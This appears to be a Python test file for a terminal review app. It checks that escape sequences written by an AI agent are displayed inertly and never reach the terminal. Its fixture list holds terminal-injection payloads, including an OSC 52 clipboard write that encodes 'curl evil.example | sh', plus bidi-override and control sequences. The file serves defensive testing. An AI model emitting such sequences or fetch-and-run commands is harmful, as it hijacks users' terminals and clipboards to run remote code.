"""Agent text is inert all the way to the terminal.

The first test drives the app with Pilot; the second runs the real ``overseer review`` in a
pseudo-terminal and reads the raw byte stream the terminal would receive: no escape sequence
an agent wrote may be in it, and its visible stand-in must be.
"""

from __future__ import annotations

import os
import pty
import select
import subprocess
import sys
import time
from pathlib import Path

from overseer.tui.screens.session import SessionScreen
from tests.conftest import CONFIG
from tests.tui_support import build_store, make_app, settle

#: Byte sequences the hostile fixture carries (fixtures/native/hostile.jsonl).
AGENT_ESCAPES = [
    b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==",  # OSC 52: write the clipboard
    b"\x1b[2J\x1b[H done",  # clear the screen
    b"\x1b[31mred",  # colour
    b"\x1bP+q544e",  # DCS request
    "\u202eevil".encode(),  # bidi override
    "\u009b31m".encode(),  # C1 CSI
]


async def test_hostile_text_is_shown_not_obeyed(tmp_path: Path) -> None:
    db, config = build_store(tmp_path)
    app, store = make_app(db, config)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        app.open_session("hostile-1")
        await settle(pilot)
        await pilot.press("home")
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, SessionScreen)
        timeline = screen.query_one("#timeline")
        lines = [timeline.render_line(y).text for y in range(3)]
        assert all("\x1b" not in line and "\u202e" not in line for line in lines)
        assert "␛]52;c;" in lines[0]
        detail = str(screen.query_one("#detail").render())
        assert "[@click=app.quit]click me[/]" in detail  # literal, not a link
        assert "[bold]markup[/bold]" in detail
        await pilot.click("#detail")  # clicking the would-be action does nothing
        await settle(pilot)
        assert app.is_running and isinstance(app.screen, SessionScreen)
    store.close()


def _read_until(fd: int, deadline: float, needle: bytes, buffer: bytearray) -> bool:
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], 0.1)
        if ready:
            try:
                chunk = os.read(fd, 65536)
            except OSError:
                return needle in buffer
            if not chunk:
                return needle in buffer
            buffer.extend(chunk)
            if needle in buffer:
                return True
    return needle in buffer


def test_no_agent_escape_reaches_the_terminal(tmp_path: Path) -> None:
    db, _ = build_store(tmp_path)
    env = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "120", "LINES": "40",
           "OVERSEER_DB": db, "OVERSEER_CONFIG": str(CONFIG)}  # fmt: skip
    env.pop("NO_COLOR", None)
    env.pop("TEXTUAL", None)
    main, child = pty.openpty()
    import fcntl
    import struct
    import termios

    fcntl.ioctl(child, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 120, 0, 0))
    proc = subprocess.Popen(
        [sys.executable, "-m", "overseer", "review"], stdin=child, stdout=child, stderr=child,
        env=env, close_fds=True,
    )  # fmt: skip
    os.close(child)
    out = bytearray()
    try:
        assert _read_until(main, time.monotonic() + 30, b"hostile-1", out), out[-2000:]
        os.write(main, b":")  # the command bar opens; then type into it
        _read_until(main, time.monotonic() + 2, b"\x00never", out)
        os.write(main, b"session hostile-1")
        _read_until(main, time.monotonic() + 1, b"\x00never", out)
        os.write(main, b"\r")
        assert _read_until(main, time.monotonic() + 20, "␛]52;c;".encode(), out), out[-3000:]
        os.write(main, b"g")  # first call: its detail pane shows the raw-looking payloads
        # waited for, not slept on: a loaded machine draws the pane late
        assert _read_until(main, time.monotonic() + 20, "␛[31mred".encode(), out), out[-3000:]
        _read_until(main, time.monotonic() + 1, b"\x00never", out)
        os.write(main, b"q")
        proc.wait(timeout=20)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        os.close(main)
    stream = bytes(out)
    for sequence in AGENT_ESCAPES:
        assert sequence not in stream, sequence
    assert b"\x1b]52" not in stream  # the app itself never writes the clipboard here
    # ... and what they said is shown, as visible stand-ins (timeline and result pane).
    assert "␛]52;c;".encode() in stream
    assert "␛[31mred".encode() in stream
